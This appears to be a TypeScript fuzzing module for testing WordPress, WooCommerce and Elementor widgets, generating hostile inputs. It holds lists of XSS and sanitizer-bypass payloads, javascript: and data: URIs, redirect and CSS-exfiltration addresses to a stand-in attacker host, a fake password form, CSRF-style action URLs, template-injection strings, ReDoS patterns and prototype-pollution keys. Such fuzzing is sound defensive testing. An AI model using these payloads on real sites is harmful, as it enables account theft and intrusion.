/** Values of an attacker for settings that expect an address, a text, a number or a record. */
import { EVIL } from './post';

/** A number from 0 up to 1, like `Math.random`; from `seeded`. */
export type Random = () => number;

/** One of `from`. */
export const pick = <T>(random: Random, from: readonly T[]): T => from[Math.floor(random() * from.length)]!;

/** Between 0 and `most`, both included. */
export const upTo = (random: Random, most: number): number => Math.floor(random() * (most + 1));

const HOST = new URL(EVIL).host;
const RUN = 'pwned=1';

/** Addresses of another host, in all notations that browsers accept. */
const FOREIGN = [
  `${EVIL}/x`,
  `//${HOST}/x`,
  `https:\\\\${HOST}\\x`,
  `\\/\\/${HOST}/x`,
  `/\\${HOST}/x`,
  `HTTPS://${HOST.toUpperCase()}/x`,
  `ht\ntps://${HOST}/x`,
  `\thttps://${HOST}/x`,
  ` //${HOST}/x`,
  `/\t/${HOST}/x`,
  `https:${HOST}/x`,
  `https://shop.example@${HOST}/x`,
  `https://127.0.0.1@${HOST}/x`,
  `https://127.0.0.1.${HOST}/x`,
  `https://${HOST}/x.js`,
  `https://${HOST}/x.json`,
  `https://${HOST}/x.html#content`,
  `https://${HOST}/x.mp4`,
  `https://${HOST}/{z}/{x}/{y}.png`,
  `https://${HOST}/youtube.com/watch?v=abcdefghijk`,
  `https://youtube.com.${HOST}/embed/abcdefghijk`,
  `ftp://${HOST}/x`,
  `blob:${EVIL}/x`,
  `wss://${HOST}/x`,
];

const SCRIPTING = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  ` javascript:${RUN}//https://127.0.0.1/`,
  `javascript://127.0.0.1/%0a${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==`,
  `data:text/javascript,${RUN}`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"></svg>`,
];

/** Files of the site that an author may have uploaded. */
const UPLOADED = ['txt', 'json', 'html', 'svg', 'js', 'css', 'pdf', 'mp4'].flatMap((ending) => [
  `/wp-content/uploads/2026/01/evil.${ending}`,
  `/wp-content/uploads/evil.${ending}?x#content`,
]);

/** Addresses of the site that change something when requested. */
export const ACTING = [
  '/?add-to-cart=11',
  '/product/shirt/?add-to-cart=11&quantity=3',
  '/?wc-ajax=add_to_cart&add-to-cart=11&product_id=11',
  '/cart/?remove_item=evil&_wpnonce=1',
  '/cart/?undo_item=evil',
  '/cart/?remove_coupon=evil',
  '/?wc-ajax=evil_action',
  '/wp-admin/admin-ajax.php?action=evil_action',
  '/wp-admin/post.php?post=1&action=trash',
  '/wp-login.php?action=logout',
  '/wp-json/wp/v2/users/1?evil=1',
  '/wp-json/evil/v1/x',
  '/my-account/customer-logout/',
];

/** Markup that runs, loads, navigates or asks for passwords. */
export const MARKUP = [
  `<img src=x onerror=${RUN}>`,
  `<script>${RUN}</script>`,
  `<script src="${EVIL}/x.js"></script>`,
  `<svg onload=${RUN}><path d="M0 0"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s /></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${RUN}'/></svg>#x"/></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/">`,
  `<base href="${EVIL}/"><link rel=stylesheet href="/x.css"><link rel=import href="${EVIL}/">`,
  `<style>@import "${EVIL}/x.css";*{background:url(${EVIL}/y)}</style>`,
  `<form action="${EVIL}/"><input name=password type=password autofocus onfocus=${RUN}><button>Log in</button></form>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<video><source onerror=${RUN}></video><audio src=x onerror=${RUN}></audio>`,
  `<a href="javascript:${RUN}">x</a><a href="${EVIL}/" target=_blank ping="${EVIL}/ping">y</a>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<template><img src=x onerror=${RUN}></template><p style="background:url(${EVIL}/z)">x</p>`,
  `<textarea></textarea><img src=x onerror=${RUN}>`,
  `"><img src=x onerror=${RUN}>`,
  `'><svg onload=${RUN}>`,
  `x" onmouseover="${RUN}" onfocus="${RUN}" autofocus tabindex=0 style="position:fixed;inset:0`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `</style><img src=x onerror=${RUN}>`,
  `<input id=currentScript><div id=StorefrontWidgets data-widget=form></div>`,
];

const TEMPLATES = [
  '{{{ data.evil }}}',
  `{{{ "<img src=x onerror=${RUN}>" }}}`,
  `{{ constructor.constructor("${RUN}")() }}`,
  `\${${RUN}}`,
  `<# ${RUN} #>`,
  '%%endpoint%%',
  '%1$s %s %d {x}',
];

const STYLES = [
  `url(${EVIL}/x)`,
  `red;background:url(${EVIL}/x)`,
  `1px}*{background:url(${EVIL}/x)}`,
  `expression(${RUN})`,
  `image-set("${EVIL}/x" 1x)`,
  'calc(1px*1e300)',
];

const SLOW = [
  '(a+)+$',
  '^(([a-z])+.)+[A-Z]([a-z])+$',
  '/(x+x+)+y/',
  '(.*)*(.*)*(.*)*!',
  ':has(:has(*))',
  '*:not(:has(* * * * * *)) ~ * ~ * ~ *',
  ':is(:is(*,* *),* * *):not(* > * * *)',
  '[',
  '*',
  'form',
  'body',
  'html',
  '#evil',
  'input[type=password]',
  '*,form.login',
];

/** Names of properties of every object, and names that only the site may use. */
export const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'evil_cookie',
  'evil',
  'wordpress_logged_in_evil',
  'wp-settings-evil',
];

const NUMBERS = [
  '-1',
  '0',
  '1e9',
  '1e308',
  '99999999999999999999',
  'NaN',
  'Infinity',
  '-Infinity',
  '0x10',
  '1e-9',
  '2',
  '12',
  '250',
  '',
  'null',
  'undefined',
  'true',
];

/** An action link of Elementor. */
function action(random: Random): string {
  const name = pick(random, [
    'lightbox',
    'popup:open',
    'popup:close',
    'popup:toggle',
    'off_canvas:open',
    'share',
    'evil',
  ]);
  const settings = {
    id: pick(random, ['1', '501', 'evil', '__proto__']),
    url: hostileText(random),
    html: pick(random, MARKUP),
    type: pick(random, ['image', 'video']),
    videoType: pick(random, ['youtube', 'vimeo', 'hosted', 'evil']),
    videoParams: { src: hostileText(random), onload: RUN },
    toggle: true,
    network: hostileText(random),
    slideshow: 'all-1',
  };
  const base = `elementor-action:action=${name}&settings=${Buffer.from(JSON.stringify(settings)).toString('base64')}`;
  // The filter removes the text before a bare colon.
  return `#${encodeURIComponent(base)}`;
}

/** A hostile address. */
export const hostileAddress = (random: Random): string =>
  random() < 0.1 ? action(random) : pick(random, pick(random, [FOREIGN, FOREIGN, SCRIPTING, UPLOADED, ACTING]));

/** A hostile text. */
export function hostileText(random: Random): string {
  const kind = random();
  if (kind < 0.4) return hostileAddress(random);
  if (kind < 0.7) return pick(random, MARKUP);
  return pick(random, pick(random, [TEMPLATES, STYLES, SLOW, NAMES, NUMBERS]));
}

export const hostileNumber = (random: Random): unknown =>
  random() < 0.5 ? pick(random, [-1, 0, 0.0001, 1, 2, 5, 50, 1000, 1e6, 1e9, 1e15, 1e308]) : pick(random, NUMBERS);

/** An oversized text or JSON, of at most 60 kB. */
export function tooMuch(random: Random): string {
  const many = (length: number, item: unknown): string => JSON.stringify(Array.from({ length }, () => item));
  return pick(random, [
    () => 'a'.repeat(50_000),
    () => `${'<b>'.repeat(10_000)}x`,
    () => many(2000, { url: '/assets/none.png', id: 1 }),
    () => many(10_000, 1),
    () => many(3000, { x: '<img src=x>' }),
    () => `${'['.repeat(5000)}1${']'.repeat(5000)}`,
    () => `${'{"a":'.repeat(3000)}1${'}'.repeat(3000)}`,
    () => `${'('.repeat(2000)}a${')+'.repeat(2000)}`,
  ])();
}

/** Any value of JSON; `keys` are what records are made of. */
export function hostileValue(random: Random, keys: readonly string[], depth = 0): unknown {
  const kind = random();
  if (kind < 0.45 || depth > 2) return hostileText(random);
  if (kind < 0.6) return hostileNumber(random);
  if (kind < 0.66) return pick(random, [true, false, null, 'yes', 'no']);
  if (kind < 0.82) {
    return Array.from({ length: 1 + upTo(random, 2) }, () => hostileValue(random, keys, depth + 1));
  }
  return hostileRecord(random, keys, depth + 1);
}

/** A record, some of whose keys are read by widgets. */
export function hostileRecord(random: Random, keys: readonly string[], depth = 0): Record<string, unknown> {
  const record: Record<string, unknown> = {};
  const count = 1 + upTo(random, 4);
  for (let at = 0; at < count; at += 1) {
    const key = keys.length > 0 && random() < 0.9 ? pick(random, keys) : pick(random, NAMES);
    // Assigning `__proto__` would change the prototype of this record.
    Object.defineProperty(record, key, {
      value: hostileValue(random, keys, depth + 1),
      enumerable: true,
      configurable: true,
      writable: true,
    });
  }
  return record;
}
